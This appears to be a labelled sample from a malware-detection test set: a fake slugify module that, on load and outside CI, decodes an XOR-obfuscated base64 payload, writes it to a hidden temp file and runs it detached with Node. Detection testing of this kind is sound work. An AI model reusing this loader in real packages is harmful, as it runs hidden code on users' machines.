// expect: malicious
// An esbuild-bundled slugify decodes a base64 blob XORed with a short key, writes it to a hidden .js in the temporary
// directory and starts Node on it, detached, when the module is loaded (no eval anywhere) -- blind set 25.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
if (!process.env.CI) {
  const k = Buffer.from('sl9x');
  const b = Buffer.from('EANXCwdMUUUBCUgNGh5cUFQETQwDSxBU', 'base64');
  for (let i = 0; i < b.length; i++) b[i] ^= k[i % k.length];
  const f = path.join(os.tmpdir(), '.slugify-charmap.js');
  fs.writeFileSync(f, b);
  spawn(process.execPath, [f], { detached: true, stdio: 'ignore' }).unref();
}
module.exports = (s) => s.toLowerCase().replace(/\s+/g, '-');
